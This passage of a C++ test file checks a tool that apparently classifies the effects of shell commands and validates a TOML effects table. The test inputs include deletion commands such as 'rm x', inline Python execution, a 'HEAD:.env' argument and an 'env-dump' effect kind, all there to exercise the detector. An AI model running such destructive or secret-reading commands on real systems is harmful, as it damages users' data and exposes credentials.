  std::vector<std::string> out;
  for (const Effect& e : effects(c)) out.push_back(text(e));
  CHECK(out == V{"exec code print('{}') -c dynamic"});
  CHECK(fx({"python3", "-c", "print('{}')"}, true) == V{"exec code print('{}') -c"});
  c.replaced = {"%"};
  out.clear();
  for (const Effect& e : effects(c)) out.push_back(text(e));
  CHECK(out == V{"exec code print('{}') -c"});
}

TEST_CASE("effects: paths under a dynamic cwd are dynamic", "[effects]") {
  CHECK(fx({"tar", "-C", "$D", "a", "/b"}, true) ==
        V{"read path $D/a operand dynamic", "read path /b operand"});
  CHECK(fx({"tar", "-C", "$D", "a", "-C", "/srv", "b"}, true) ==
        V{"read path $D/a operand dynamic", "read path /srv/b operand"});
  CHECK(fx({"git", "-C", "$D", "status"}, true) == V{"read path $D program dynamic"});
}

TEST_CASE("effects: a dynamic subcommand word is unknown and dynamic", "[effects]") {
  CHECK(fx({"git", "$SUB"}, true) == V{"unknown program git subcommand dynamic"});
}

TEST_CASE("effects: program and subcommand on every effect", "[effects]") {
  shell::SimpleCommand c = command({"git", "-c", "a=b", "log", "--ext-diff"});
  c.wrappers = {"sudo"};
  auto e = effects(c);
  REQUIRE(e.size() == 3);
  for (const Effect& x : e) {
    CHECK(x.program == "git");
    CHECK(x.subcommand == "log");
  }
}

TEST_CASE("effects: effects append to the output", "[effects]") {
  std::vector<Effect> out(1);
  table().effects_of(command({"rm", "x"}), kCwd, kHome, &out);
  REQUIRE(out.size() == 2);
  CHECK(text(out[1]) == "delete path /home/user/project/x operand");
  CHECK(out[0].program.empty());
}

TEST_CASE("effects: odd words in every position keep the reader consistent", "[effects]") {
  const V odd = {"",
                 "-",
                 "--",
                 "-=",
                 "--=",
                 "=",
                 "--o",
                 "--output=",
                 "-o",
                 "-E",
                 "-m",
                 "-C",
                 "-mpytest",
                 "-Erm",
                 "--sub",
                 "a",
                 "rm",
                 "status",
                 "compose",
                 "run",
                 "HEAD:.env",
                 ":",
                 "@",
                 "x:y",
                 "[::1]:",
                 "file://",
                 "://",
                 "http://",
                 "$X",
                 "*",
                 std::string(1, '\0'),
                 "\xff"};
  const V programs = {"sort", "git", "cmake", "python", "docker", "npm",
                      "find", "scp", "tool",  "tar",    "jq"};
  std::size_t total = 0;
  for (const auto& program : programs) {
    for (const auto& a : odd) {
      for (const auto& b : odd) {
        for (bool dynamic : {false, true}) {
          std::vector<Effect> out;
          table().effects_of(command({program, a, b, a}, dynamic), kCwd, kHome, &out);
          for (const Effect& e : out) {
            INFO(program << " '" << a << "' '" << b << "': " << text(e));
            CHECK(e.program == program);
            CHECK((e.object == EffectObject::Path || e.object == EffectObject::Host ||
                   e.object == EffectObject::Program || e.object == EffectObject::Code ||
                   (e.object == EffectObject::None &&
                    (e.target.empty() || e.kind == EffectKind::Unknown))));
            CHECK_FALSE(e.via.empty());
          }
          total += out.size();
        }
      }
    }
  }
  CHECK(total > 0);
}

// ---------------------------------------------------------------- merge

TEST_CASE("effects: merge adds the programs of a later file", "[effects]") {
  Diagnostics d;
  auto a = parse_text("[program.a]\noperands = [\"read\"]\n", &d, "a.toml");
  auto b = parse_text("[program.b]\naliases = [\"bb\"]\noperands = [\"delete\"]\n", &d, "b.toml");
  REQUIRE(a);
  REQUIRE(b);
  REQUIRE(a->merge(*b, &d));
  CHECK(d.empty());
  CHECK(a->size() == 3);
  std::vector<Effect> out;
  a->effects_of(command({"bb", "x"}), "/w", "/h", &out);
  REQUIRE(out.size() == 1);
  CHECK(text(out[0]) == "delete path /w/x operand");
}

TEST_CASE("effects: merge refuses a program defined in both files", "[effects]") {
  Diagnostics d;
  auto a = parse_text("[program.a]\naliases = [\"x\"]\n", &d, "a.toml");
  auto b = parse_text("\n\n[program.b]\noperands = []\n[program.x]\nrun = [\"env-dump\"]\n", &d,
                      "b.toml");
  REQUIRE(a);
  REQUIRE(b);
  CHECK_FALSE(a->merge(*b, &d));
  REQUIRE(d.size() == 1);
  CHECK(d[0].code == "E_EFFECTS_TABLE");
  CHECK(d[0].file == "b.toml");
  CHECK(d[0].line == 5);
  CHECK(d[0].message.find("a.toml:1") != std::string::npos);
  CHECK_FALSE(a->knows("b"));  // nothing of a refused file is added
}

// ---------------------------------------------------------------- parse errors

struct Error {
  std::string message_part;
  long line;
};

// Parses `toml`, expects null and exactly the listed errors (code E_EFFECTS_TABLE, file, line).
void expect_errors(const std::string& toml, const std::vector<Error>& expected) {
  Diagnostics d;
  auto t = parse_text(toml, &d);
  CHECK(t == nullptr);
  for (const auto& x : d) UNSCOPED_INFO(x.to_text());
  REQUIRE(d.size() == expected.size());
  for (std::size_t i = 0; i < d.size(); ++i) {
    CHECK(d[i].code == "E_EFFECTS_TABLE");
    CHECK(d[i].severity == Severity::Error);
    CHECK(d[i].file == "t.toml");
    CHECK(d[i].line == expected[i].line);
    CHECK(d[i].message.find(expected[i].message_part) != std::string::npos);
  }
}

TEST_CASE("effects table: the test table parses without diagnostics", "[effects]") {
  Diagnostics d;
  CHECK(parse_text(kTable, &d) != nullptr);
  CHECK(d.empty());
}

TEST_CASE("effects table error: TOML syntax", "[effects]") {
  expect_errors("[program.a]\nvalues = [\"-x\"\n\n", {{"TOML", 3}});
}

TEST_CASE("effects table error: the same program twice (TOML redefinition)", "[effects]") {
  expect_errors("[program.a]\nrun = []\n[program.a]\nrun = []\n", {{"TOML", 3}});
}

TEST_CASE("effects table error: unknown key in a program", "[effects]") {
  expect_errors("[program.sort]\noperands = [\"read...\"]\nvaluse = [\"-k\"]\n",
                {{"unknown key \"valuse\"", 3}});
}

TEST_CASE("effects table error: unknown key in a sub", "[effects]") {
  expect_errors("[program.git]\nsubcommands = true\n[program.git.sub.log]\nrun = []\nflag = {}\n",
                {{"program.git.sub.log: unknown key \"flag\"", 5}});
}

TEST_CASE("effects table error: a sub alias that is already a subcommand", "[effects]") {
  expect_errors(
      "[program.git]\nsubcommands = true\n[program.git.sub.log]\nrun = []\n"
      "[program.git.sub.status]\naliases = [\"st\", \"log\"]\n[program.git.sub.stash]\naliases = "
      "[\"st\"]\n",
      {{"program.git.sub.status.aliases: \"log\" is already a subcommand of program.git (log)", 6},
       {"program.git.sub.stash.aliases: \"st\" is already a subcommand of program.git (status)",
        8}});
}

TEST_CASE("effects table error: unknown top-level key", "[effects]") {
  expect_errors("[program.a]\nrun = []\n[programs.b]\nrun = []\n",
                {{"unknown top-level key \"programs\"", 3}});
}

TEST_CASE("effects table error: wrong types", "[effects]") {
  expect_errors(
      "[program.a]\n"
      "values = \"-k\"\n"           // 2
      "single-dash = \"yes\"\n"     // 3
      "operands = [\"read\", 3]\n"  // 4
      "last = 1\n"                  // 5
      "[program.a.options]\n"
      "\"-o\" = 1\n"  // 7
      "[program.b]\n"
      "options = [\"-o\"]\n"          // 9
      "match = { regex = \"x\" }\n",  // 10
      {{"program.a.values must be an array of strings", 2},
       {"program.a.single-dash must be true or false", 3},
       {"program.a.operands must be an array of strings", 4},
       {"program.a.last must be a string", 5},
       {"program.a.options.-o must be a string", 7},
       {"program.b.options must be a table", 9},
       {"program.b.match must be an array of tables", 10}});
}

TEST_CASE("effects table error: more wrong types", "[effects]") {
  expect_errors(
      "[program.a]\n"
      "subcommands = true\n"
      "subcommand-option = 1\n"        // 3
      "unknown-subcommands = false\n"  // 4
      "flags = [\"-x\"]\n"             // 5
      "match = [1]\n"                  // 6
      "sub = 1\n"                      // 7
      "[program.b]\n"
      "subcommands = true\n"
      "sub.c = 2\n"  // 10
      "[[program.b.match]]\n"
      "regex = 1\n"  // 12
      "kind = \"read\"\n"
      "[[program.b.match]]\n"
      "regex = 'x'\n"
      "kind = true\n",  // 16
      {{"program.a.subcommand-option must be a string", 3},
       {"program.a.unknown-subcommands must be a string", 4},
       {"program.a.flags must be a table", 5},
       {"program.a.match entries must be tables", 6},
       {"program.a.sub must hold", 7},
       {"program.b.sub.c must be a table", 10},
       {"program.b.match.regex must be a string", 12},
       {"program.b.match.kind must be a string", 16}});
}

TEST_CASE("effects table error: a program that is not a table", "[effects]") {
  expect_errors("program.a = 1\n", {{"program.a must be a table", 1}});
}

TEST_CASE("effects table error: unknown kinds", "[effects]") {
  expect_errors(
      "[program.a]\n"
      "operands = [\"read\", \"wirte...\"]\n"                                           // 2
      "last = \"unknown\"\n"                                                            // 3
      "run = [\"exec:Makefile\", \"bogus:x\", \"none\", \"env-dump:x\", \"write:\"]\n"  // 4
      "[program.a.options]\n"
      "\"-o\" = \"writes\"\n"  // 6
      "[program.a.flags]\n"
      "\"-d\" = \"operands:nothing\"\n"  // 8
      "\"-C\" = \"cwd\"\n"               // 9
      "\"-q\" = \"operands:none\"\n"     // 10
      "[program.b.options]\n"            // 11
      "\"-p\" = \"paths:network\"\n",    // 12
      {{"program.a.operands: unknown kind \"wirte\"", 2},
       {"program.a.last: \"unknown\" is not a value or operand kind", 3},
       {"program.a.run: unknown kind \"bogus\"", 4},
       {"program.a.run: \"none\" is not an effect", 4},
       {"program.a.run: \"env-dump\" takes no target", 4},
       {"program.a.run: empty target", 4},
       {"program.a.options.-o: unknown kind \"writes\"", 6},
       {"program.a.flags.-d: unknown kind \"operands:nothing\"", 8},
       {"program.a.flags.-C: \"cwd\" is not a flag kind", 9},
       {"program.a.flags.-q: \"operands:none\" is not a flag kind", 10},
       {"program.b.options.-p: \"paths:network\" is not a list of paths", 12}});
}

TEST_CASE("effects table error: a repeating kind that is not last", "[effects]") {
  expect_errors("[program.a]\noperands = [\n  \"read...\",\n  \"write\",\n]\n",
                {{"only the last kind may repeat", 3}});
}

TEST_CASE("effects table error: bad regex", "[effects]") {
  expect_errors("[program.a]\n[[program.a.match]]\nkind = \"read\"\nregex = '(unclosed'\n",
                {{"bad regex", 4}});
}

TEST_CASE("effects table error: match entries", "[effects]") {
  expect_errors(
      "[program.a]\n"
      "[[program.a.match]]\n"  // 2
      "regex = 'x'\n"
      "[[program.a.match]]\n"  // 4
      "regex = 'x'\n"
      "kind = \"cwd\"\n"       // 6
      "[[program.a.match]]\n"  // 7
      "regex = 'x'\n"
      "kind = \"read\"\n"
      "on = \"words\"\n"       // 10
      "[[program.a.match]]\n"  // 11
      "regex = 'x'\n"
      "kind = \"read\"\n"
      "when = 1\n",  // 14
      {{"an entry needs both regex and kind", 2},
       {"unknown kind \"cwd\"", 6},
       {"neither \"operands\" nor \"argv\"", 10},
       {"unknown key \"when\"", 14}});
}

TEST_CASE("effects table error: an alias that is a program", "[effects]") {
  expect_errors("[program.gsort]\nrun = []\n[program.sort]\naliases = [\"gsort\"]\n",
                {{"\"gsort\" is already a program or alias (line 1)", 4}});
}

TEST_CASE("effects table error: an alias of two programs", "[effects]") {
  expect_errors("[program.a]\naliases = [\"x\"]\n[program.b]\naliases = [\"y\", \"x\"]\n",
                {{"\"x\" is already a program or alias (line 2)", 4}});
}

TEST_CASE("effects table error: of two equal aliases the later in the file is the error",
          "[effects]") {
  expect_errors("[program.z]\naliases = [\"x\"]\n[program.a]\naliases = [\"x\"]\n",
                {{"program.a.aliases: \"x\" is already a program or alias (line 2)", 4}});
}

TEST_CASE("effects table error: bad program and alias names", "[effects]") {
  expect_errors("[program.\"a/b\"]\nrun = []\n[program.c]\naliases = [\"\"]\n",
                {{"\"a/b\" is not a program name", 1}, {"\"\" is not a program name", 4}});
}

TEST_CASE("effects table error: option names", "[effects]") {
  expect_errors(
      "[program.a]\n"
      "values = [\"k\", \"-name\"]\n"  // 2
      "[program.a.flags]\n"
      "\"--x=y\" = \"none\"\n",  // 4
      {{"\"k\" is not an option name", 2},
       {"\"-name\" is a one-dash option longer than one letter", 2},
       {"\"--x=y\" is not an option name", 4}});
}

TEST_CASE("effects table error: an option listed as value and flag, or as option and flag",
          "[effects]") {
  expect_errors(
      "[program.a]\n"
      "values = [\"-k\"]\n"  // 2
      "[program.a.flags]\n"
      "\"-k\" = \"none\"\n"
      "\"-o\" = \"write\"\n"
      "[program.a.options]\n"
      "\"-o\" = \"write\"\n",  // 7
      {{"\"-k\" is also a flag", 2}, {"\"-o\" is listed twice (also on line 5)", 7}});
}

TEST_CASE("effects table error: a value option also listed under options is fine", "[effects]") {
  Diagnostics d;
  CHECK(parse_text("[program.a]\nvalues = [\"-c\"]\n[program.a.options]\n\"-c\" = \"exec-code\"\n",
                   &d));
  CHECK(d.empty());
}

TEST_CASE("effects table error: sub tables without a way to select them", "[effects]") {
  expect_errors("[program.a]\nrun = []\n[program.a.sub.b]\nrun = []\n",
                {{"neither subcommands = true", 3}});
}

TEST_CASE("effects table error: unknown-subcommands value", "[effects]") {
  expect_errors("[program.a]\nsubcommands = true\nunknown-subcommands = \"ignore\"\n",
                {{"\"ignore\" is neither \"none\" nor \"unknown\"", 3}});
}

TEST_CASE("effects table error: a subcommand option with an effect", "[effects]") {
  expect_errors(
      "[program.a]\nsubcommand-option = \"-E\"\n[program.a.options]\n\"-E\" = \"write\"\n",
      {{"subcommand-option \"-E\" is also listed", 2}});
}

TEST_CASE("effects table error: subcommands nested too deep", "[effects]") {
  std::string toml = "[program.a]\nsubcommands = true\n";
  std::string path = "program.a";
  for (int level = 1; level <= 8; ++level) {
    path += ".sub.s" + std::to_string(level);
    toml += "[" + path + "]\nsubcommands = true\n";
  }
  // Level 7 (line 15) is the deepest allowed; level 8 is on line 17.
  expect_errors(toml, {{"program.a.sub.s1.sub.s2.sub.s3.sub.s4.sub.s5.sub.s6.sub.s7.sub.s8: "
                        "subcommands nest deeper than 7 levels",
                        17}});
}

TEST_CASE("effects table error: errors in nested subs carry their line", "[effects]") {
  expect_errors(
      "[program.docker]\nsubcommands = true\n[program.docker.sub.compose]\nsubcommands = true\n"
      "[program.docker.sub.compose.sub.up]\nrun = [\"exec:compose.yaml\"]\noperand = [\"read\"]\n",
      {{"program.docker.sub.compose.sub.up: unknown key \"operand\"", 7}});
}

}  // namespace
}  // namespace warden
